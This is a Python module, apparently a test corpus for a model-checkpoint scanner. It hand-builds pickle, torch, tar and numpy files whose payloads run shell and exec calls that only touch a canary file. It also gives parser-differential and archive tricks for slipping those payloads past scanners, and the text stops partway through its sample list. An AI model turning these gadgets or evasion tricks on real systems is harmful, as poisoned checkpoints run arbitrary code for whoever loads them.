"""A corpus of live malicious checkpoints and of benign files written by real libraries.

Every malicious sample really runs code when its victim loads it (``torch.load(weights_only=False)``,
``pickle.load``, ``numpy.load(allow_pickle=True)``, ``joblib.load``): its payload creates a canary
file, and nothing else. Every benign sample is written by the library it is named after, never from
hand-built bytes. `build` writes both; `fire` loads samples the way their victims would, in child
processes (never in the calling one), and reports which canaries appeared. `build_bombs` writes
inputs whose cost to a careless scanner is exponential or unbounded.

Used by ``tests/test_fail_closed.py`` and importable by benchmark scripts::

    from sample_set import build, fire
    samples = build(Path("/tmp/corpus"))
    assert fire([s for s in samples if s.malicious]) == {s.name for s in samples if s.malicious}
"""

from __future__ import annotations

import bz2
import dataclasses
import gzip
import importlib.util
import io
import itertools
import json
import lzma
import os
import pickle
import pickletools
import shlex
import shutil
import signal
import struct
import subprocess
import sys
import tarfile
import tempfile
import time
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

LOADERS = (
    "torch.load",
    "pickle.load",
    "numpy.load",
    "joblib.load",
    "dcp.load",
    # issue 31, items 2 and 5: loaders that decompress or unpack by the file's name
    "pandas.read_pickle",
    "composer.load",
    "nemo.restore",
    # issue 31, item 1: keras.saving.load_model(path, safe_mode=False), torch backend
    "keras.load_model",
)
"""``dcp.load`` is torch.distributed.checkpoint's reading of a whole checkpoint folder (through
``dcp_to_torch_save``, which loads every item): a sample's path is then its ``.metadata``.
``pandas.read_pickle`` infers its decompression from the name (``compression="infer"``: ``.zst``,
``.tar``, ...). ``composer.load`` is Composer's ``load_checkpoint`` of a compressed save
(``download_checkpoint``: ``<tool> -dc`` of a ``*.pt.<ext>``, ``composer/utils/compression.py``),
then ``_torch_load_with_validation``'s ``torch.load(weights_only=False)`` as every release up to
mosaicml/composer 26a0f3114 ran it. ``nemo.restore`` is NeMo's ``SaveRestoreConnector``
(``nemo/core/connectors/save_restore_connector.py``): ``_tar_open`` (``"r:"``, then ``"r:gz"``),
``safe_extract``, then ``torch.load`` of ``model_weights.ckpt`` as torch < 2.6 ran it
(``weights_only=False``; NeMo honours ``TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD``)."""
MALICIOUS_FAMILIES = (
    "tar",
    "opcode-args",
    "npy",
    "zip",
    "lookalike",
    "compressed",
    "resources",
    "setup-class",
    "classic",
    "dcp",
    "keras-config",
)
CANARY_DIR = "_canaries"
"""Canaries live beside the sample folders (``root/_canaries/<name>``), never inside them, so that
verifying a sample's folder does not see them."""


@dataclass(frozen=True)
class Sample:
    name: str
    path: Path
    malicious: bool
    loader: str
    family: str
    canary: Path | None


# --------------------------------------------------------------------------------------------
# pickle opcodes, written by hand (only ever parsed by the victims, in `fire`'s child processes)
# --------------------------------------------------------------------------------------------


def _u(text: str) -> bytes:
    """BINUNICODE: a str argument that needs no escaping (the C unpickler takes it in any protocol)."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _g(module: str, name: str) -> bytes:
    """GLOBAL module.name"""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _i(value: int) -> bytes:
    return b"I%d\n" % value


def _call(fn: bytes, *args: bytes) -> bytes:
    """fn(*args): REDUCE over a tuple built from a MARK."""
    return fn + b"(" + b"".join(args) + b"tR"


def _call0(fn: bytes) -> bytes:
    return fn + b")R"


def _list(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


def _binbytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def _touch(canary: str) -> str:
    return "touch " + shlex.quote(canary)


def _create_code(canary: str) -> str:
    return f"open({canary!r}, 'a').close()"


_O_CREAT_WRONLY = os.O_CREAT | os.O_WRONLY

GADGETS: dict[str, Callable[[str], bytes]] = {
    # each pushes the result of one call that creates the canary (the path given), and no more
    "os.system": lambda c: _call(_g("os", "system"), _u(_touch(c))),
    "posix.system": lambda c: _call(_g("posix", "system"), _u(_touch(c))),
    "subprocess.check_call": lambda c: _call(_g("subprocess", "check_call"), _list(_u("touch"), _u(c))),
    "subprocess.Popen": lambda c: _call(_g("subprocess", "Popen"), _list(_u("touch"), _u(c))),
    "subprocess.run": lambda c: _call(_g("subprocess", "run"), _list(_u("touch"), _u(c))),
    "subprocess.call": lambda c: _call(_g("subprocess", "call"), _list(_u("touch"), _u(c))),
    "subprocess.getoutput": lambda c: _call(_g("subprocess", "getoutput"), _u(_touch(c))),
    "builtins.exec": lambda c: _call(_g("builtins", "exec"), _u(_create_code(c))),
    "builtins.eval": lambda c: _call(
        _g("builtins", "eval"),
        _u(f"__import__('os').close(__import__('os').open({c!r}, {_O_CREAT_WRONLY}))"),
    ),
    "builtins.open": lambda c: _call(_g("builtins", "open"), _u(c), _u("w")),
    "io.open": lambda c: _call(_g("io", "open"), _u(c), _u("a")),
    "posix.open": lambda c: _call(_g("posix", "open"), _u(c), _i(_O_CREAT_WRONLY)),
    "pathlib.touch": lambda c: _call0(_call(_g("builtins", "getattr"), _call(_g("pathlib", "Path"), _u(c)), _u("touch"))),
    "shutil.copyfile": lambda c: _call(_g("shutil", "copyfile"), _u(os.devnull), _u(c)),
    "timeit.timeit": lambda c: _call(_g("timeit", "timeit"), _u(_create_code(c)), _u("pass"), _g("time", "perf_counter"), _i(1)),
    "os.popen": lambda c: _call0(_call(_g("builtins", "getattr"), _call(_g("os", "popen"), _u(_touch(c))), _u("close"))),
    "os.spawnlp": lambda c: _call(_g("os", "spawnlp"), _i(os.P_WAIT), _u("touch"), _u("touch"), _u(c)),
    "pickle.loads": lambda c: _call(_g("pickle", "loads"), _binbytes(b"\x80\x02" + GADGETS["posix.system"](c) + b".")),
    "getattr-import": lambda c: _call(
        _call(_g("builtins", "getattr"), _call(_g("builtins", "__import__"), _u("os")), _u("system")),
        _u(_touch(c)),
    ),
    "operator.methodcaller": lambda c: _call(
        _call(_g("operator", "methodcaller"), _u("system"), _u(_touch(c))),
        _call(_g("builtins", "__import__"), _u("os")),
    ),
    "logging.FileHandler": lambda c: _call0(_call(_g("builtins", "getattr"), _call(_g("logging", "FileHandler"), _u(c)), _u("close"))),
    "zipfile.ZipFile": lambda c: _call0(_call(_g("builtins", "getattr"), _call(_g("zipfile", "ZipFile"), _u(c), _u("w")), _u("close"))),
    "numpy.savetxt": lambda c: _call(_g("numpy", "savetxt"), _u(c), _list(_i(0))),
    "torch.save": lambda c: _call(_g("torch", "save"), _i(0), _u(c)),
    "joblib.dump": lambda c: _call(_g("joblib", "dump"), _i(0), _u(c)),
    # INST and OBJ call without REDUCE
    "inst": lambda c: b"(" + _u(_touch(c)) + b"ios\nsystem\n",
    "obj": lambda c: b"(" + _g("posix", "system") + _u(_touch(c)) + b"o",
    # STACK_GLOBAL over names put in the memo in the wrong order, then read back
    "stack-global-memo": lambda c: b"\x8c\x06systemq\xf00\x8c\x02osq\xf10h\xf1h\xf0\x93(" + _u(_touch(c)) + b"tR",
    "functools.partial": lambda c: _call0(_call(_g("functools", "partial"), _g("posix", "system"), _u(_touch(c)))),
    # issue 31 (trust declared): a function of a module no list names, which runs a shell command
    "pydoc.pipepager": lambda c: _call(_g("pydoc", "pipepager"), _u(""), _u(_touch(c))),
}


def _pickle(gadget: str, canary: str, proto: int = 2) -> bytes:
    """A whole pickle that returns the gadget's result."""
    head = b"" if proto == 0 else bytes([0x80, proto])
    return head + GADGETS[gadget](canary) + b"."


def _stmt(gadget: str, canary: str) -> bytes:
    """The gadget's call, its result popped: to be spliced into another pickle."""
    return GADGETS[gadget](canary) + b"0"


def _pickle_end(data: bytes, start: int) -> int:
    """Offset just past the STOP of the well-formed pickle that starts at `start`."""
    for op, _arg, pos in pickletools.genops(data[start:]):
        if op.name == "STOP":
            return start + pos + 1
    raise ValueError("no STOP")


def _splice_after_proto(pickled: bytes, inject: bytes) -> bytes:
    assert pickled[:1] == b"\x80", "expected a PROTO opcode first"
    return pickled[:2] + inject + pickled[2:]


def _add_setitem(pickled: bytes, key: str, value: bytes) -> bytes:
    """The pickle's top-level dict gets one more item, set right before its STOP."""
    assert pickled.endswith(b".")
    return pickled[:-1] + _u(key) + value + b"s."


# Opcode arguments that Python's `pickletools` (and so any scanner built on it) reads differently
# from the C unpickler, each followed by a POP; the C unpickler accepts every one.
ODD_ARGS: dict[str, bytes] = {
    "int-hex": b"I0x1\n0",
    "int-nul-garbage": b"I1\x00z\n0",
    "long-hex": b"L0x1L\n0",
    "float-nul": b"F1.0\x00\n0",
    "put-nul": b"I1\np900\x00\n0",
    "get-nul": b"I1\np901\n0g901\x00\n0",
    "int-octal-prefix": b"I0o7\n0",
    "int-binary-prefix": b"I0b1\n0",
    "long-nul": b"L1\x00L\n0",
    "int-space": b"I 1\n0",
    "int-plus": b"I+1\n0",
    "int-underscore": b"I1_0\n0",
    "int-leading-zero-octal": b"I010\n0",
    "int-hex-upper": b"I0X1\n0",
    "float-nul-garbage": b"F1.0\x00abc\n0",
}


# --------------------------------------------------------------------------------------------
# containers
# --------------------------------------------------------------------------------------------


def _zip(members: Sequence[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", compression) as archive:
        warnings.simplefilter("ignore")  # "Duplicate name": on purpose
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def _members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def _replace_member(data: bytes, suffix: str, new: Callable[[bytes], bytes]) -> bytes:
    """Rewrites a torch zip (stored, like torch's own) with one member's content changed."""
    return _zip([(n, new(c) if n.endswith(suffix) else c) for n, c in _members(data)])


def _tar_info(name: str, **attrs: Any) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    for key, value in attrs.items():
        setattr(info, key, value)
    return info


def _tar_member(name: str, content: bytes, **attrs: Any) -> tuple[tarfile.TarInfo, bytes]:
    return _tar_info(name, size=len(content), **attrs), content


_TarEntry = tarfile.TarInfo | tuple[str | tarfile.TarInfo, bytes]


def _tar(entries: Sequence[_TarEntry], fmt: int = tarfile.PAX_FORMAT) -> bytes:
    """A tar of (name, content) members, bare TarInfo entries (links) and (TarInfo, content)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=fmt) as archive:
        for entry in entries:
            if isinstance(entry, tarfile.TarInfo):
                archive.addfile(entry)
                continue
            head, content = entry
            info = head if isinstance(head, tarfile.TarInfo) else _tar_info(head, size=len(content))
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


# torch's oldest format: members `storages` (count, then per storage a record pickle and raw
# bytes, then a views pickle), `tensors` (count, then per tensor a record and raw dims) and `pickle`
def _cli_compressed(tool: str, data: bytes) -> bytes:
    """``data`` piped through a compressor's command-line tool, as Composer's ``CliCompressor.compress`` does."""
    return subprocess.run([tool], input=data, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, check=True).stdout


def _framed(body: bytes) -> bytes:
    """A protocol-4 pickle of one FRAME holding ``body``."""
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


def _zstd_stream(parts: Sequence[bytes]) -> bytes:
    """One zstd frame of ``parts``, by ckptdoctor's own dependency (``backports.zstd`` before 3.14)."""
    try:
        from compression.zstd import ZstdCompressor  # type: ignore[import-not-found,unused-ignore]
    except ImportError:
        from backports.zstd import ZstdCompressor  # type: ignore[import-not-found,unused-ignore]
    compressor = ZstdCompressor()
    return b"".join(compressor.compress(part) for part in parts) + compressor.flush()


def _tarfile(members: Sequence[tuple[str, bytes]], mode: str) -> bytes:
    """A tar written by ``tarfile`` (``mode``: ``"w"``, ``"w:gz"``), each member under its bare name."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:
        for name, content in members:
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


_TAR_NO_STORAGES = pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)
_TAR_NO_TENSORS = pickle.dumps(0, protocol=2)
_TAR_BENIGN_PICKLE = pickle.dumps({"epoch": 1}, protocol=2)
_TAR_STORAGE_RECORD = b"\x80\x02(" + _u("0") + _u("cpu") + _g("torch", "FloatStorage") + b"t."
_TAR_STORAGE_BYTES = struct.pack("<q", 2) + struct.pack("<2f", 1.0, 1.0)


def _npy(descr: str, shape: str, body: bytes, version: tuple[int, int] = (1, 0)) -> bytes:
    """A .npy header (any descr/shape text numpy's parser takes) followed by `body`."""
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}".encode("latin1")
    size_len = 2 if version == (1, 0) else 4
    pad = (64 - (6 + 2 + size_len + len(header) + 1) % 64) % 64
    header += b" " * pad + b"\n"
    size = struct.pack("<H" if size_len == 2 else "<I", len(header))
    return b"\x93NUMPY" + bytes(version) + size + header + body


@dataclass(frozen=True)
class _RawMember:
    """A zip member's local header and bytes, written by hand: the bombs' central directories point
    at them as they please (overlapping, under other names), which ``zipfile`` cannot write."""

    name: str
    method: int
    crc: int
    data: bytes
    size: int
    claims: int | None = None
    """Sizes its headers claim in place of the real ones."""

    @classmethod
    def stored(cls, name: str, data: bytes) -> _RawMember:
        return cls(name, 0, zlib.crc32(data), data, len(data))

    @classmethod
    def zeros(cls, name: str, head: bytes, zeros: int, tail: bytes = b"") -> _RawMember:
        """``head``, ``zeros`` zero bytes and ``tail``, deflated a MiB at a time (never whole in memory)."""
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        chunk = bytes(1 << 20)
        parts = [compressor.compress(head)]
        crc = zlib.crc32(head)
        for start in range(0, zeros, len(chunk)):
            piece = chunk[: min(len(chunk), zeros - start)]
            parts.append(compressor.compress(piece))
            crc = zlib.crc32(piece, crc)
        parts += [compressor.compress(tail), compressor.flush()]
        return cls(name, 8, zlib.crc32(tail, crc), b"".join(parts), len(head) + zeros + len(tail))

    @property
    def sizes(self) -> tuple[int, int]:
        """Compressed and uncompressed, as its headers say."""
        return (self.claims, self.claims) if self.claims is not None else (len(self.data), self.size)


def _raw_zip(members: Sequence[_RawMember], entries: Sequence[tuple[int, str | None]]) -> bytes:
    """``members`` one after another, then a central directory of ``entries``: each points at the
    local header of ``members[index]``, under that member's name or another."""
    body = bytearray()
    offsets = []
    for member in members:
        offsets.append(len(body))
        name = member.name.encode()
        body += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, member.method, 0, 0, member.crc, *member.sizes, len(name), 0)
        body += name + member.data
    directory = bytearray()
    for index, name_given in entries:
        member = members[index]
        name = (name_given or member.name).encode()
        directory += struct.pack(
            "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, member.method, 0, 0, member.crc, *member.sizes,
            len(name), 0, 0, 0, 0, 0, offsets[index],
        )  # fmt: skip
        directory += name
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), len(body), 0)
    return bytes(body + directory + end)


# --------------------------------------------------------------------------------------------
# the malicious samples
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Ctx:
    canary: str
    path: Path
    base: _Bases


class _Bases:
    """Real files written once per build, that malicious samples are derived from."""

    def __init__(self) -> None:
        import torch

        self.torch = torch
        buffer = io.BytesIO()
        torch.save({"w": torch.ones(2), "b": torch.zeros(1)}, buffer)
        self.torch_zip = buffer.getvalue()
        buffer = io.BytesIO()
        torch.save({"w": torch.ones(2)}, buffer, _use_new_zipfile_serialization=False)
        self.legacy = buffer.getvalue()
        ends = [0]
        for _ in range(5):
            ends.append(_pickle_end(self.legacy, ends[-1]))
        self.legacy_pickles = [self.legacy[a:b] for a, b in itertools.pairwise(ends)]
        self.legacy_tail = self.legacy[ends[-1] :]

    def zip_with_data_pkl(self, new: Callable[[bytes], bytes]) -> bytes:
        return _replace_member(self.torch_zip, "/data.pkl", new)

    def legacy_with(self, index: int, new: Callable[[bytes], bytes]) -> bytes:
        parts = list(self.legacy_pickles)
        parts[index] = new(parts[index])
        return b"".join(parts) + self.legacy_tail


def _keras_archive(torch_saved: bytes, junk: bool = False) -> bytes:
    """A ``.keras`` archive of a functional model of one ``TorchModuleWrapper`` layer whose module is
    ``torch_saved``, as Keras 3.15 writes it: ``config.json`` as ``serialize_keras_object`` writes the
    model (``keras/src/utils/torch_utils.py``, ``TorchModuleWrapper.get_config``: ``"module":
    base64(torch.save(module))``), the weights as ``H5IOStore`` writes them (``saving_lib.py``).
    ``junk``: a ``!`` after every 60 characters of the base64, which ``from_config``'s
    ``base64.b64decode`` (not validating) skips."""
    import base64

    import h5py
    import numpy as np

    def layer(class_name: str, name: str, config: dict[str, Any], inbound: list[Any]) -> dict[str, Any]:
        return {
            "module": "keras.layers",
            "class_name": class_name,
            "config": config,
            "registered_name": None,
            "name": name,
            "inbound_nodes": inbound,
        }

    tensor = {"class_name": "__keras_tensor__", "config": {"shape": [None, 3], "dtype": "float32", "keras_history": ["input_layer", 0, 0]}}
    policy = {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None}
    encoded = base64.b64encode(torch_saved).decode("ascii")
    if junk:
        encoded = "!".join(encoded[at : at + 60] for at in range(0, len(encoded), 60))
    wrapper = {"name": "torch_module_wrapper", "trainable": True, "dtype": policy, "module": encoded, "output_shape": [None, 2]}
    inputs = {"batch_shape": [None, 3], "dtype": "float32", "sparse": False, "ragged": False, "name": "input_layer", "optional": False}
    config = {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {
            "name": "functional",
            "trainable": True,
            "layers": [
                layer("InputLayer", "input_layer", inputs, []),
                layer("TorchModuleWrapper", "torch_module_wrapper", wrapper, [{"args": [tensor], "kwargs": {}}]),
            ],
            "input_layers": ["input_layer", 0, 0],
            "output_layers": ["torch_module_wrapper", 0, 0],
        },
        "registered_name": "Functional",
        "build_config": {"input_shape": None},
        "compile_config": {},
    }
    weights = io.BytesIO()
    with h5py.File(weights, "w") as f:
        f.create_group("layers/input_layer/vars").attrs["name"] = "input_layer"
        held = f.create_group("layers/torch_module_wrapper/vars")
        held.attrs["name"] = "torch_module_wrapper"
        held.create_dataset("bias", data=np.zeros(2, "float32"))
        held.create_dataset("weight", data=np.ones((2, 3), "float32"))
        f.create_group("vars").attrs["name"] = "functional"
    return _zip(
        [
            ("metadata.json", json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}).encode()),
            ("config.json", json.dumps(config).encode()),
            ("model.weights.h5", weights.getvalue()),
        ]
    )


_MalSpec = tuple[str, str, str, str, Callable[[_Ctx], bytes]]  # name, file, loader, family, make


def _malicious_specs() -> Iterator[_MalSpec]:
    # ---- classic controls ----
    yield (
        "classic-protocol-0",
        "payload.pkl",
        "pickle.load",
        "classic",
        lambda c: b"cos\nsystem\n(V" + _touch(c.canary).encode() + b"\ntR.",
    )
    yield ("classic-protocol-2", "model.pkl", "pickle.load", "classic", lambda c: _pickle("posix.system", c.canary, 2))
    yield (
        "classic-protocol-4-stack-global",
        "data.pkl",
        "pickle.load",
        "classic",
        lambda c: b"\x80\x04\x8c\nsubprocess\x8c\ncheck_call\x93" + _list(_u("touch"), _u(c.canary)) + b"\x85R.",
    )
    yield ("classic-protocol-5-exec", "state.pkl", "pickle.load", "classic", lambda c: _pickle("builtins.exec", c.canary, 5))
    yield (
        "classic-torch-zip-data-pkl",
        "model.pt",
        "torch.load",
        "classic",
        lambda c: c.base.zip_with_data_pkl(lambda d: _splice_after_proto(d, _stmt("os.system", c.canary))),
    )
    yield (
        "classic-torch-zip-inst",
        "pytorch_model.bin",
        "torch.load",
        "classic",
        lambda c: c.base.zip_with_data_pkl(lambda d: _splice_after_proto(d, _stmt("inst", c.canary))),
    )
    yield (
        "classic-legacy-main-pickle",
        "model.pt",
        "torch.load",
        "classic",
        lambda c: c.base.legacy_with(3, lambda d: _splice_after_proto(d, _stmt("obj", c.canary))),
    )
    yield ("classic-training-args-bin", "training_args.bin", "torch.load", "classic", lambda c: _pickle("subprocess.run", c.canary, 2))

    # ---- tar: torch's oldest format ----
    def tar_pickle(gadget: str) -> Callable[[_Ctx], bytes]:
        return lambda c: _tar([("storages", _TAR_NO_STORAGES), ("tensors", _TAR_NO_TENSORS), ("pickle", _pickle(gadget, c.canary))])

    yield ("tar-pickle-member", "model.tar", "torch.load", "tar", tar_pickle("posix.system"))
    yield ("tar-pickle-member-pt", "model.pt", "torch.load", "tar", tar_pickle("subprocess.call"))
    yield (
        "tar-hardlinked-pickle-member",
        "model.pt",
        "torch.load",
        "tar",
        lambda c: _tar(
            [
                ("storages", _TAR_NO_STORAGES),
                ("tensors", _TAR_NO_TENSORS),
                ("notes", _pickle("builtins.open", c.canary)),
                _tar_info("pickle", type=tarfile.LNKTYPE, linkname="notes"),
            ]
        ),
    )
    yield (
        "tar-symlinked-pickle-member",
        "model.pt",
        "torch.load",
        "tar",
        lambda c: _tar(
            [
                ("storages", _TAR_NO_STORAGES),
                ("tensors", _TAR_NO_TENSORS),
                ("data/readme", _pickle("io.open", c.canary)),
                _tar_info("pickle", type=tarfile.SYMTYPE, linkname="data/readme"),
            ]
        ),
    )
    yield (
        "tar-hardlinked-storages-member",
        "model.pt",
        "torch.load",
        "tar",
        lambda c: _tar(
            [
                ("blob", b"\x80\x02" + _stmt("posix.open", c.canary) + b"K\x00." + pickle.dumps([], protocol=2)),
                _tar_info("storages", type=tarfile.LNKTYPE, linkname="blob"),
                ("tensors", _TAR_NO_TENSORS),
                ("pickle", _TAR_BENIGN_PICKLE),
            ]
        ),
    )
    yield (
        "tar-unknown-typeflag",
        "model.pt",
        "torch.load",
        "tar",
        lambda c: _tar(
            [
                ("storages", _TAR_NO_STORAGES),
                ("tensors", _TAR_NO_TENSORS),
                _tar_member("pickle", _pickle("shutil.copyfile", c.canary), type=b"Z"),
            ]
        ),
    )
    yield (
        "tar-duplicate-pickle-member",
        "model.pt",
        "torch.load",
        "tar",
        lambda c: _tar(
            [
                ("storages", _TAR_NO_STORAGES),
                ("tensors", _TAR_NO_TENSORS),
                ("pickle", _TAR_BENIGN_PICKLE),
                ("pickle", _pickle("timeit.timeit", c.canary)),
            ]
        ),
    )
    yield (
        "tar-pax-renamed-pickle",
        "model.pt",
        "torch.load",
        "tar",
        lambda c: _tar(
            [
                ("storages", _TAR_NO_STORAGES),
                ("tensors", _TAR_NO_TENSORS),
                _tar_member("README.txt", _pickle("os.spawnlp", c.canary), pax_headers={"path": "pickle"}),
            ]
        ),
    )
    yield (
        "tar-gnu-longname-pickle",
        "model.pt",
        "torch.load",
        "tar",
        lambda c: _tar(
            [
                ("storages", _TAR_NO_STORAGES),
                ("tensors", _TAR_NO_TENSORS),
                _tar_member("././@LongLink", b"pickle\x00", type=tarfile.GNUTYPE_LONGNAME),
                _tar_member("README.txt", _pickle("getattr-import", c.canary)),
            ],
            fmt=tarfile.GNU_FORMAT,
        ),
    )
    yield (
        "tar-payload-in-storages-count",
        "model.pt",
        "torch.load",
        "tar",
        lambda c: _tar(
            [
                ("storages", _pickle("os.system", c.canary) + pickle.dumps([], protocol=2)),
                ("tensors", _TAR_NO_TENSORS),
                ("pickle", _TAR_BENIGN_PICKLE),
            ]
        ),
    )
    yield (
        "tar-payload-in-storage-record",
        "model.pt",
        "torch.load",
        "tar",
        lambda c: _tar(
            [
                (
                    "storages",
                    pickle.dumps(1, protocol=2)
                    + _pickle("subprocess.check_call", c.canary)
                    + _TAR_STORAGE_BYTES
                    + pickle.dumps([], protocol=2),
                ),
                ("tensors", _TAR_NO_TENSORS),
                ("pickle", _TAR_BENIGN_PICKLE),
            ]
        ),
    )
    yield (
        "tar-payload-in-storage-views",
        "model.pt",
        "torch.load",
        "tar",
        lambda c: _tar(
            [
                (
                    "storages",
                    pickle.dumps(1, protocol=2) + _TAR_STORAGE_RECORD + _TAR_STORAGE_BYTES + _pickle("operator.methodcaller", c.canary),
                ),
                ("tensors", _TAR_NO_TENSORS),
                ("pickle", _TAR_BENIGN_PICKLE),
            ]
        ),
    )
    yield (
        "tar-payload-in-tensor-record",
        "model.pt",
        "torch.load",
        "tar",
        lambda c: _tar(
            [
                ("storages", _TAR_NO_STORAGES),
                ("tensors", pickle.dumps(1, protocol=2) + _pickle("builtins.eval", c.canary)),
                ("pickle", _TAR_BENIGN_PICKLE),
            ]
        ),
    )

    def counted(count: bytes, gadget: str) -> Callable[[_Ctx], bytes]:
        # one storage record and its bytes, then the payload as the views pickle: a scanner that
        # cannot tell how many records the count announces cannot find where the views pickle is
        return lambda c: _tar(
            [
                ("storages", count + _TAR_STORAGE_RECORD + _TAR_STORAGE_BYTES + _pickle(gadget, c.canary)),
                ("tensors", _TAR_NO_TENSORS),
                ("pickle", _TAR_BENIGN_PICKLE),
            ]
        )

    yield ("tar-storage-count-hex", "model.pt", "torch.load", "tar", counted(b"I0x1\n.", "pathlib.touch"))
    yield ("tar-storage-count-from-memo", "model.pt", "torch.load", "tar", counted(b"\x80\x02K\x01q\x000h\x00.", "logging.FileHandler"))
    yield ("tar-storage-count-true", "model.pt", "torch.load", "tar", counted(b"\x80\x02\x88.", "zipfile.ZipFile"))
    yield (
        "tar-storage-count-from-call",
        "model.pt",
        "torch.load",
        "tar",
        counted(b"\x80\x02" + _call(_g("builtins", "int"), _u("1")) + b".", "torch.save"),
    )

    # ---- opcode arguments pickletools rejects or reads differently; the C unpickler takes them ----
    bare_gadgets = [
        "posix.system",
        "subprocess.check_call",
        "builtins.exec",
        "os.system",
        "io.open",
        "shutil.copyfile",
        "pickle.loads",
        "stack-global-memo",
        "obj",
    ]
    for (arg, odd), gadget in zip(list(ODD_ARGS.items())[:9], bare_gadgets, strict=True):
        yield (
            f"odd-{arg}-bare-pickle",
            "data.pkl",
            "pickle.load",
            "opcode-args",
            lambda c, odd=odd, gadget=gadget: b"\x80\x02" + odd + _pickle(gadget, c.canary, 0),
        )
    zip_args = [
        "int-space",
        "int-plus",
        "int-underscore",
        "int-leading-zero-octal",
        "int-hex-upper",
        "float-nul-garbage",
        "int-hex",
        "get-nul",
    ]
    zip_gadgets = [
        "posix.system",
        "subprocess.Popen",
        "getattr-import",
        "functools.partial",
        "builtins.open",
        "posix.open",
        "inst",
        "torch.save",
    ]
    for arg, gadget in zip(zip_args, zip_gadgets, strict=True):
        yield (
            f"odd-{arg}-torch-zip",
            "model.pt",
            "torch.load",
            "opcode-args",
            lambda c, odd=ODD_ARGS[arg], gadget=gadget: c.base.zip_with_data_pkl(
                lambda d: _splice_after_proto(d, odd + _stmt(gadget, c.canary))
            ),
        )
    legacy_args = ["int-hex", "put-nul", "get-nul", "float-nul", "int-nul-garbage"]
    legacy_gadgets = ["os.system", "timeit.timeit", "subprocess.getoutput", "builtins.eval", "obj"]
    for arg, gadget in zip(legacy_args, legacy_gadgets, strict=True):
        yield (
            f"odd-{arg}-legacy-torch",
            "model.pt",
            "torch.load",
            "opcode-args",
            lambda c, odd=ODD_ARGS[arg], gadget=gadget: c.base.legacy_with(
                3, lambda d: _splice_after_proto(d, odd + _stmt(gadget, c.canary))
            ),
        )
    # torch's magic and protocol numbers written in a form only the C unpickler reads as such,
    # the payload in the sys_info pickle that follows
    yield (
        "odd-legacy-hex-magic-number",
        "model.pt",
        "torch.load",
        "opcode-args",
        lambda c: (
            b"L0x1950a86a20f9469cfc6cL\n."
            + b"I0x3e9\n."
            + _pickle("posix.system", c.canary)
            + b"".join(c.base.legacy_pickles[3:])
            + c.base.legacy_tail
        ),
    )

    # ---- .npy / .npz ----
    def npy(descr: str, gadget: str, shape: str = "(1,)", version: tuple[int, int] = (1, 0)) -> Callable[[_Ctx], bytes]:
        return lambda c: _npy(descr, shape, _pickle(gadget, c.canary), version)

    yield ("npy-object-descr-O", "arr.npy", "numpy.load", "npy", npy("'O'", "posix.system"))
    yield ("npy-object-descr-pipe-O", "arr.npy", "numpy.load", "npy", npy("'|O'", "subprocess.check_call"))
    yield ("npy-object-descr-word", "arr.npy", "numpy.load", "npy", npy("'object'", "builtins.exec"))
    yield ("npy-object-descr-O8", "arr.npy", "numpy.load", "npy", npy("'|O8'", "os.system"))
    yield ("npy-structured-object-field", "arr.npy", "numpy.load", "npy", npy("[('a', '<i4'), ('b', '|O')]", "getattr-import"))
    yield (
        "npy-nested-structured-object-field",
        "arr.npy",
        "numpy.load",
        "npy",
        npy("[('a', '<f4'), ('b', [('c', '<i2'), ('d', 'O')])]", "io.open"),
    )
    yield ("npy-python2-long-shape", "arr.npy", "numpy.load", "npy", npy("'|O'", "subprocess.run", "(1L,)"))
    yield ("npy-version-2-header", "arr.npy", "numpy.load", "npy", npy("'|O'", "posix.open", version=(2, 0)))
    yield ("npy-version-3-header", "arr.npy", "numpy.load", "npy", npy("'|O'", "numpy.savetxt", version=(3, 0)))

    def npz(members: Callable[[_Ctx], list[tuple[str, bytes]]], compression: int) -> Callable[[_Ctx], bytes]:
        return lambda c: _zip(members(c), compression)

    def benign_npy() -> bytes:
        import numpy as np

        buffer = io.BytesIO()
        np.save(buffer, np.arange(4, dtype=np.float32))
        return buffer.getvalue()

    yield (
        "npz-stored-object-member",
        "arrays.npz",
        "numpy.load",
        "npy",
        npz(
            lambda c: [("weights.npy", benign_npy()), ("arr_1.npy", _npy("'|O'", "(1,)", _pickle("posix.system", c.canary)))],
            zipfile.ZIP_STORED,
        ),
    )
    yield (
        "npz-compressed-object-member",
        "arrays.npz",
        "numpy.load",
        "npy",
        npz(
            lambda c: [("arr_0.npy", benign_npy()), ("arr_1.npy", _npy("'O'", "(1,)", _pickle("builtins.open", c.canary)))],
            zipfile.ZIP_DEFLATED,
        ),
    )
    yield (
        "npz-member-without-npy-suffix",
